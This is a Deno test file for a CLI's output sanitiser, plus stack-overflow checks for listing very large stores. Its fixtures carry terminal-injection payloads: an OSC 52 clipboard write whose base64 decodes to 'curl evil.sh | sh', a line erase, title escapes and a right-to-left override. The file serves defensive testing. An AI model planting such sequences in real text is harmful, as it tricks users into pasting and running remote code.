// deno-lint-ignore-file no-explicit-any -- these tests read the CLI's JSON output untyped
/**
 * End-to-end, D12 and D23: text from a registry, a profile or a path never drives the terminal
 * (every human line passes the sanitiser), and `pods list` of a very large store does not crash.
 */
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parseJson, runCli, withSandbox, writeFile } from "../helpers/cli.ts";
import { widestDisplay as widest } from "../../src/terminal_text.ts";
import { renderRows } from "../../src/manifest/summary.ts";

// deno-lint-ignore no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f\u009b\u202e]/;
const EVIL = "ok\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\u001b[2K\\rall good";

function clean(output: string, where: string): void {
  assert.doesNotMatch(output, RAW_CONTROL, `${where}: ${JSON.stringify(output.slice(0, 400))}`);
}

Deno.test("D12: descriptions, names and paths from files reach the terminal escaped", async () => {
  await withSandbox(async (sb) => {
    // The review's repro: an OSC 52 clipboard write and a line erase in a registry description.
    writeFile(
      join(sb.config, "manifest.toml"),
      `[profiles.profile]\nevil = { path = "evil.nix", description = "${EVIL}" }\n`,
    );
    // Nix has no \u escapes: the control characters are written into the file as they are.
    const desc = `"desc\x1b]0;title\x07 \u202eright-to-left \nwarning: spoofed"`;
    writeFile(
      join(sb.config, "evil.nix"),
      `let i = import <insomnia> { }; in i.mkProfile { name = "evil"; description = ${desc};
         manifest = { model = { ref = "anthropic/claude-sonnet-4-6";
           auth = i.secrets.ref "llm.anthropic.default"; };
           scope.allow = [ { target = i.workspace "."; permission = "read"; } ]; }; }`,
    );
    const env = { cwd: sb.workspace, env: sb.env };
    const list = await runCli(["profiles", "list"], env);
    assert.equal(list.code, 0, list.stderr);
    clean(list.stdout + list.stderr, "profiles list");
    assert.match(
      list.stdout,
      /user:evil +ok\\x1b\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b\[2K\\rall good/,
    );
    // JSON keeps the exact text (JSON escapes control characters itself).
    const json = parseJson(await runCli(["profiles", "list", "--json"], env)) as any;
    assert.equal(
      json.profiles.find((p: any) => p.name === "evil").description,
      "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2K\rall good",
    );

    const show = await runCli(["profiles", "show", "evil"], env);
    assert.equal(show.code, 0, show.stderr);
    clean(show.stdout + show.stderr, "profiles show");
    assert.doesNotMatch(show.stdout, /^warning: spoofed/m, "a description cannot start a line");

    const created = await runCli(["--profile", "evil", "-s", sb.store], env);
    assert.equal(created.code, 0, created.stderr);
    clean(created.stdout + created.stderr, "create");
    const pods = await runCli(["pods", "show", "evil", "-s", sb.store], env);
    clean(pods.stdout + pods.stderr, "pods show");

    // A path with control characters in an error message.
    const weird = writeFile(join(sb.root, "a\x1b[2Kb\nc.nix"), `throw "x\\u001b[31m"`);
    const failed = await runCli(["--profile", weird], env);
    assert.equal(failed.code, 1);
    clean(failed.stderr, "error");
    assert.equal(failed.stderr.trimEnd().split("\n").length, 1, "one paragraph: " + failed.stderr);
  });
});

Deno.test("D23: the table widths of 200,000 rows are computed without overflowing the stack", () => {
  const names = Array.from({ length: 200_000 }, (_, i) => `p${i}`);
  assert.equal(widest(names), 7);
  const rows = names.map((n): [string, string] => [n, "x"]);
  assert.equal(renderRows(rows).split("\n").length, 200_000);
});

Deno.test("D23: pods list of a store with 20,000 entries answers (no internal error)", async () => {
  await withSandbox(async (sb) => {
    sb.checkSnapshots = false;
    const store = join(sb.root, "big");
    mkdirSync(join(store, "pods"), { recursive: true });
    mkdirSync(join(store, "sessions"));
    writeFileSync(join(store, "store.json"), '{"format":"insomnia.store.v1"}\n');
    for (let i = 0; i < 20_000; i++) {
      mkdirSync(join(store, "pods", `p${String(i).padStart(6, "0")}`));
    }
    const result = await runCli(["pods", "list", "-s", store], { cwd: sb.workspace, env: sb.env });
    assert.doesNotMatch(result.stderr, /internal|Maximum call stack/);
    assert.equal(result.code, 0, result.stderr.slice(0, 500));
    assert.equal(result.stdout.trimEnd().split("\n").length, 20_000);
    assert.match(result.stdout, /^p000000 +BROKEN: /m);
  });
});
